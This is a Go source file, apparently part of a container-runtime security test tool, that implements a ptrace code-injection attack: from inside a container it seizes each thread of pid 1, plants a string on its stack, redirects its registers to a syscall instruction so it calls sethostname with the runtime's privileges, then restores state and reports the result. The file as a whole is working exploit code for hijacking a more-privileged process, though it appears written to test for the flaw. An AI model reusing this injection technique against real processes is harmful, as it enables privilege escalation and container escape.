package main

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// The kernel's syscall-restart codes, which a thread interrupted in a
// system call holds in rax until the kernel, on its way back to user
// space, either restarts the call or returns EINTR.
const (
	errRestartSys      = 512 // ERESTARTSYS
	errRestartNoIntr   = 513 // ERESTARTNOINTR
	errRestartNoHand   = 514 // ERESTARTNOHAND
	errRestartBlock    = 516 // ERESTART_RESTART_BLOCK
	ptraceEventStop    = 128 // PTRACE_EVENT_STOP
	redZone            = 128 // below rsp, the x86_64 ABI's scratch space
	syscallInsnLen     = 2   // 0f 05
	maxTextScan        = 64 << 20
	noSyscallToRestart = ^uint64(0)
)

// ptraceAttack is the attack of issue 17 point 2: from inside a created
// container, with CAP_SYS_PTRACE and without CAP_SYS_ADMIN, it makes
// every thread of pid 1 (the container's init, waiting for start) call
// sethostname(name) for it. A thread that holds more than the
// container's process (the runtime's capabilities) does it; one with the
// program's credentials gets EPERM. It prints what its own sethostname
// got, one line per thread of pid 1 (tid, attach, syscall), and the
// nodename uname then reports.
//
// It is Go, part of syscaller, so that it is built as the rest is
// (static, CGO_ENABLED=0) and needs no static libc on the host. All
// ptrace requests come from the thread that attached, so the goroutine
// stays on its thread.
func ptraceAttack(name string) {
	runtime.LockOSThread()
	fmt.Printf("self sethostname errno=%d\n", errnoOf(unix.Sethostname([]byte(name))))
	ents, err := os.ReadDir("/proc/1/task")
	if err != nil {
		fmt.Fprintln(os.Stderr, "read /proc/1/task:", err)
		os.Exit(1)
	}
	var tids []int
	for _, e := range ents {
		if tid, err := strconv.Atoi(e.Name()); err == nil {
			tids = append(tids, tid)
		}
	}
	sort.Ints(tids)
	for _, tid := range tids {
		attach, sys := injectSethostname(tid, name)
		fmt.Printf("tid=%d attach=%s syscall=%s\n", tid, attach, sys)
	}
	var uts unix.Utsname
	if err := unix.Uname(&uts); err != nil {
		fmt.Fprintln(os.Stderr, "uname:", err)
		os.Exit(1)
	}
	fmt.Printf("nodename=%s\n", unix.ByteSliceToString(uts.Nodename[:]))
}

// injectSethostname seizes thread tid, stops it, makes it run
// sethostname(name) and puts it back as it was. It returns the attach
// result ("ok" or the errno) and the injected call's ("errno=N", 0 on
// success, or why it did not run).
func injectSethostname(tid int, name string) (attach, sys string) {
	if err := unix.PtraceSeize(tid); err != nil {
		return describe(err), "not-run"
	}
	pendingSig := 0
	defer func() {
		// Detach with the signal a stop swallowed, if any, so the
		// thread gets it as if never traced.
		if _, _, e := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(tid), 0, uintptr(pendingSig), 0, 0); e != 0 {
			sys += " detach=" + describe(e)
		}
	}()
	if err := unix.PtraceInterrupt(tid); err != nil {
		return "ok", "not-run (interrupt: " + describe(err) + ")"
	}
	ws, err := wait(tid)
	if err != nil {
		return "ok", "not-run (wait: " + describe(err) + ")"
	}
	if !ws.Stopped() {
		return "ok", fmt.Sprintf("not-run (thread ended: %#x)", uint32(ws))
	}
	if int(ws)>>16 != ptraceEventStop {
		// A signal-delivery-stop came first: the thread is stopped
		// all the same; give it the signal back at detach.
		pendingSig = int(ws.StopSignal())
	}
	if err := unix.PtraceSetOptions(tid, unix.PTRACE_O_TRACESYSGOOD); err != nil {
		return "ok", "not-run (options: " + describe(err) + ")"
	}
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(tid, &saved); err != nil {
		return "ok", "not-run (getregs: " + describe(err) + ")"
	}
	insn, err := findSyscallInsn(tid, &saved)
	if err != nil {
		return "ok", "not-run (" + err.Error() + ")"
	}

	// The string goes below the stack pointer, past the red zone,
	// where the thread keeps nothing live; what was there is put back.
	str := append([]byte(name), 0)
	addr := uintptr(saved.Rsp-redZone-256) &^ 15
	old := make([]byte, len(str))
	if _, err := unix.PtracePeekData(tid, addr, old); err != nil {
		return "ok", "not-run (peek stack: " + describe(err) + ")"
	}
	if _, err := unix.PtracePokeData(tid, addr, str); err != nil {
		return "ok", "not-run (poke stack: " + describe(err) + ")"
	}
	defer unix.PtracePokeData(tid, addr, old)

	regs := saved
	regs.Rip = insn
	regs.Rax = unix.SYS_SETHOSTNAME
	// orig_rax -1: the thread is in no system call, so the kernel's
	// restart logic, which runs on the way out of this stop, leaves
	// rax and rip alone.
	regs.Orig_rax = noSyscallToRestart
	regs.Rdi = uint64(addr)
	regs.Rsi = uint64(len(name))
	if err := unix.PtraceSetRegs(tid, &regs); err != nil {
		return "ok", "not-run (setregs: " + describe(err) + ")"
	}
	// Restore the thread whatever happens next: if it never reaches
	// the injected call, it must not run on from the syscall
	// instruction with our registers.
	defer unix.PtraceSetRegs(tid, restartedRegs(saved))

	// To the entry of the injected call, then to its exit.
	for _, stop := range []string{"entry", "exit"} {
		sig, err := toSyscallStop(tid)
		if sig != 0 {
			pendingSig = sig
		}
		if err != nil {
			return "ok", "not-run (" + stop + ": " + err.Error() + ")"
		}
	}
	var after unix.PtraceRegs
	if err := unix.PtraceGetRegs(tid, &after); err != nil {
		return "ok", "not-run (getregs at exit: " + describe(err) + ")"
	}
	if after.Orig_rax != unix.SYS_SETHOSTNAME {
		return "ok", fmt.Sprintf("not-run (stopped in syscall %d)", int64(after.Orig_rax))
	}
	errno := 0
	if r := int64(after.Rax); r < 0 {
		errno = int(-r)
	}
	return "ok", fmt.Sprintf("errno=%d", errno)
}

// toSyscallStop resumes tid until its next syscall stop. Signals that
// arrive meanwhile are held back (the last one is returned, for
// detach); other ptrace events are passed over.
func toSyscallStop(tid int) (int, error) {
	sig := 0
	for {
		if err := unix.PtraceSyscall(tid, 0); err != nil {
			return sig, fmt.Errorf("resume: %s", describe(err))
		}
		ws, err := wait(tid)
		if err != nil {
			return sig, fmt.Errorf("wait: %s", describe(err))
		}
		switch {
		case !ws.Stopped():
			return sig, fmt.Errorf("thread ended: %#x", uint32(ws))
		case ws.StopSignal() == unix.SIGTRAP|0x80:
			return sig, nil
		case int(ws)>>16 != 0:
			// A ptrace event (or group-stop): nothing to hold back.
		default:
			sig = int(ws.StopSignal())
		}
	}
}

// restartedRegs is saved as the thread must resume: the kernel's restart
// logic already ran on our registers (orig_rax -1), so a call the stop
// interrupted is restarted here, as the kernel would have.
func restartedRegs(saved unix.PtraceRegs) *unix.PtraceRegs {
	r := saved
	if int64(r.Orig_rax) >= 0 {
		switch -int64(r.Rax) {
		case errRestartSys, errRestartNoIntr, errRestartNoHand:
			r.Rax = r.Orig_rax
			r.Rip -= syscallInsnLen
		case errRestartBlock:
			r.Rax = unix.SYS_RESTART_SYSCALL
			r.Rip -= syscallInsnLen
		}
	}
	r.Orig_rax = noSyscallToRestart
	return &r
}

// findSyscallInsn returns the address of a syscall instruction in tid:
// the one it stopped in, or any in its executable mappings (the call
// stops at its exit, before the next instruction runs).
func findSyscallInsn(tid int, regs *unix.PtraceRegs) (uint64, error) {
	insn := []byte{0x0f, 0x05}
	if int64(regs.Orig_rax) >= 0 {
		b := make([]byte, syscallInsnLen)
		if _, err := unix.PtracePeekText(tid, uintptr(regs.Rip-syscallInsnLen), b); err == nil && bytes.Equal(b, insn) {
			return regs.Rip - syscallInsnLen, nil
		}
	}
	maps, err := os.Open(fmt.Sprintf("/proc/1/task/%d/maps", tid))
	if err != nil {
		return 0, err
	}
	defer maps.Close()
	mem, err := os.Open(fmt.Sprintf("/proc/1/task/%d/mem", tid))
	if err != nil {
		return 0, err
	}
	defer mem.Close()
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || !strings.Contains(f[1], "x") {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		start, err1 := strconv.ParseUint(lo, 16, 64)
		end, err2 := strconv.ParseUint(hi, 16, 64)
		if !ok || err1 != nil || err2 != nil || end <= start || end-start > maxTextScan {
			continue
		}
		text := make([]byte, end-start)
		n, _ := mem.ReadAt(text, int64(start))
		if i := bytes.Index(text[:n], insn); i >= 0 {
			return start + uint64(i), nil
		}
	}
	return 0, errors.New("no syscall instruction in the thread's text")
}

// wait waits for tid, a thread of another process, to stop or end.
func wait(tid int) (unix.WaitStatus, error) {
	var ws unix.WaitStatus
	for {
		_, err := unix.Wait4(tid, &ws, unix.WALL, nil)
		if err != unix.EINTR {
			return ws, err
		}
	}
}

// errnoOf is err's errno, 0 for nil, -1 for an error that is none.
func errnoOf(err error) int {
	var e unix.Errno
	switch {
	case err == nil:
		return 0
	case errors.As(err, &e):
		return int(e)
	}
	return -1
}

// describe is an errno as the test reads it: "errno=N (text)".
func describe(err error) string {
	return fmt.Sprintf("errno=%d (%v)", errnoOf(err), err)
}
